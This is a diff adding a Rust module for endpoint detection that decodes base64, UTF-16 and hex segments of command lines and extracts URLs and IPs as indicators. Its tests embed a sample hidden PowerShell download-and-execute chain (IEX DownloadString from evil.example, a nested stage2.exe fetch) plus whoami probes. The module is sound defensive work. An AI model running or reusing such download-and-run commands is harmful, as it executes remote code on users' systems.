@@ -0,0 +1,201 @@
+use base64::{engine::general_purpose, Engine as _};
+use once_cell::sync::Lazy;
+use regex::Regex;
+use serde::{Deserialize, Serialize};
+use std::net::Ipv4Addr;
+
+/// Base64 shorter than this is too often an ordinary word or switch value
+const MIN_BASE64_LEN: usize = 20;
+
+/// Hex blobs shorter than this are usually GUIDs, hashes or flags
+const MIN_HEX_LEN: usize = 16;
+
+/// Share of decoded characters that must be printable for the segment to
+/// count as an encoded command rather than a binary blob
+const MIN_PRINTABLE_RATIO: f64 = 0.9;
+
+/// Characters, besides whitespace, that separate an argument from what
+/// surrounds it in a command line or script
+const SEGMENT_DELIMITERS: &[char] = &['\'', '"', '(', ')', ',', ';', '{', '}', '[', ']'];
+
+static URL_RE: Lazy<Regex> = Lazy::new(|| Regex::new(r#"(?i)\bhttps?://[^\s'"<>)\]}]+"#).unwrap());
+static IPV4_RE: Lazy<Regex> = Lazy::new(|| Regex::new(r"\b(?:\d{1,3}\.){3}\d{1,3}\b").unwrap());
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum ArgumentEncoding {
+    Base64,
+    /// Base64 of UTF-16LE text, what PowerShell's `-EncodedCommand` takes
+    Base64Utf16,
+    Hex,
+}
+
+/// An encoded segment of a command line and what it decodes to
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+pub struct DecodedArgument {
+    pub process: String,
+    pub encoding: ArgumentEncoding,
+    /// 0 for a segment of the command line itself, 1 for one found inside
+    /// another segment's decoded text
+    pub depth: u8,
+    pub encoded: String,
+    pub decoded: String,
+    /// URLs and IP addresses in the decoded text
+    pub iocs: Vec<String>,
+}
+
+/// Decode the base64 and hex segments of `command_line`, then those inside
+/// each decoded text, one level down. Deeper layers are left for the
+/// deobfuscator.
+pub fn decode_command_line(process: &str, command_line: &str) -> Vec<DecodedArgument> {
+    let mut decoded = Vec::new();
+    for (encoding, encoded, text) in decode_segments(command_line) {
+        let nested = decode_segments(&text);
+        decoded.push(decoded_argument(process, encoding, 0, encoded, text));
+        for (encoding, encoded, text) in nested {
+            decoded.push(decoded_argument(process, encoding, 1, encoded, text));
+        }
+    }
+    decoded
+}
+
+fn decoded_argument(process: &str, encoding: ArgumentEncoding, depth: u8, encoded: String, decoded: String) -> DecodedArgument {
+    DecodedArgument {
+        process: process.to_string(),
+        encoding,
+        depth,
+        iocs: extract_iocs(&decoded),
+        encoded,
+        decoded,
+    }
+}
+
+/// Every segment of `text` that decodes to readable text. The argument
+/// after a PowerShell `-EncodedCommand` switch (or any prefix of it, down
+/// to `-e`) is always read as UTF-16.
+fn decode_segments(text: &str) -> Vec<(ArgumentEncoding, String, String)> {
+    let segments: Vec<&str> = text
+        .split(|c: char| c.is_whitespace() || SEGMENT_DELIMITERS.contains(&c))
+        .filter(|s| !s.is_empty())
+        .collect();
+
+    let mut decoded = Vec::new();
+    for (i, segment) in segments.iter().enumerate() {
+        let after_encoded_switch = i > 0 && is_encoded_command_switch(segments[i - 1]);
+        let result = if after_encoded_switch {
+            decode_base64(segment).and_then(|bytes| decode_utf16le(&bytes)).map(|t| (ArgumentEncoding::Base64Utf16, t))
+        } else {
+            decode_hex(segment).map(|t| (ArgumentEncoding::Hex, t)).or_else(|| decode_base64_text(segment))
+        };
+        if let Some((encoding, text)) = result {
+            decoded.push((encoding, segment.to_string(), text));
+        }
+    }
+    decoded
+}
+
+fn is_encoded_command_switch(arg: &str) -> bool {
+    let Some(name) = arg.strip_prefix('-').or_else(|| arg.strip_prefix('/')) else {
+        return false;
+    };
+    let name = name.to_ascii_lowercase();
+    name == "ec" || (!name.is_empty() && "encodedcommand".starts_with(&name))
+}
+
+fn decode_base64(segment: &str) -> Option<Vec<u8>> {
+    if segment.len() < MIN_BASE64_LEN || !segment.len().is_multiple_of(4) {
+        return None;
+    }
+    general_purpose::STANDARD.decode(segment).ok()
+}
+
+/// Base64 of UTF-8 or of UTF-16LE text, whichever reads. UTF-8 goes first:
+/// pairs of ASCII bytes read as UTF-16 make printable CJK, while UTF-16
+/// ASCII read as UTF-8 is half NULs and fails the printable check.
+fn decode_base64_text(segment: &str) -> Option<(ArgumentEncoding, String)> {
+    let bytes = decode_base64(segment)?;
+    if let Some(text) = String::from_utf8(bytes.clone()).ok().and_then(printable) {
+        return Some((ArgumentEncoding::Base64, text));
+    }
+    decode_utf16le(&bytes).map(|t| (ArgumentEncoding::Base64Utf16, t))
+}
+
+fn decode_hex(segment: &str) -> Option<String> {
+    let digits = segment.strip_prefix("0x").or_else(|| segment.strip_prefix("0X")).unwrap_or(segment);
+    if digits.len() < MIN_HEX_LEN || !digits.chars().all(|c| c.is_ascii_hexdigit()) {
+        return None;
+    }
+    printable(String::from_utf8(hex::decode(digits).ok()?).ok()?)
+}
+
+fn decode_utf16le(bytes: &[u8]) -> Option<String> {
+    if !bytes.len().is_multiple_of(2) {
+        return None;
+    }
+    let units: Vec<u16> = bytes.chunks_exact(2).map(|c| u16::from_le_bytes([c[0], c[1]])).collect();
+    printable(String::from_utf16(&units).ok()?)
+}
+
+fn printable(text: String) -> Option<String> {
+    let total = text.chars().count();
+    let readable = text.chars().filter(|c| !c.is_control() || c.is_whitespace()).count();
+    (total > 0 && readable as f64 / total as f64 >= MIN_PRINTABLE_RATIO).then_some(text)
+}
+
+fn extract_iocs(text: &str) -> Vec<String> {
+    let mut iocs: Vec<String> = URL_RE.find_iter(text).map(|m| m.as_str().to_string()).collect();
+    for ip in IPV4_RE.find_iter(text).filter(|m| m.as_str().parse::<Ipv4Addr>().is_ok()) {
+        if !iocs.iter().any(|ioc| ioc.contains(ip.as_str())) {
+            iocs.push(ip.as_str().to_string());
+        }
+    }
+    iocs
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn utf16_base64(script: &str) -> String {
+        let bytes: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
+        general_purpose::STANDARD.encode(bytes)
+    }
+
+    #[test]
+    fn test_encoded_command_utf16_script_revealed() {
+        let stage2 = general_purpose::STANDARD.encode("Start-Process http://198.51.100.23/stage2.exe");
+        let script = format!(
+            "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1'); iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{}')))",
+            stage2
+        );
+        let command_line = format!("powershell.exe -NoP -W Hidden -EncodedCommand {}", utf16_base64(&script));
+
+        let decoded = decode_command_line("powershell.exe", &command_line);
+
+        assert_eq!(decoded.len(), 2);
+        assert_eq!(decoded[0].encoding, ArgumentEncoding::Base64Utf16);
+        assert_eq!(decoded[0].depth, 0);
+        assert_eq!(decoded[0].decoded, script);
+        assert_eq!(decoded[0].iocs, vec!["http://evil.example/a.ps1".to_string()]);
+
+        // The payload inside the script is decoded too
+        assert_eq!(decoded[1].encoding, ArgumentEncoding::Base64);
+        assert_eq!(decoded[1].depth, 1);
+        assert_eq!(decoded[1].decoded, "Start-Process http://198.51.100.23/stage2.exe");
+        assert_eq!(decoded[1].iocs, vec!["http://198.51.100.23/stage2.exe".to_string()]);
+
+        // Abbreviated switches work the same way
+        let short = decode_command_line("powershell.exe", &format!("powershell -enc {}", utf16_base64("whoami /all")));
+        assert_eq!(short[0].decoded, "whoami /all");
+    }
+
+    #[test]
+    fn test_plain_command_line_has_nothing_to_decode() {
+        let command_line = r"C:\Windows\System32\svchost.exe -k netsvcs -p -s Schedule {D63B10C5-BB46-4990-A94F-E40B9D520160}";
+        assert!(decode_command_line("svchost.exe", command_line).is_empty());
+
+        let hex = decode_command_line("cmd.exe", "cmd /c echo 636d64202f632077686f616d69");
+        assert_eq!(hex[0].encoding, ArgumentEncoding::Hex);
+        assert_eq!(hex[0].decoded, "cmd /c whoami");
+    }
+}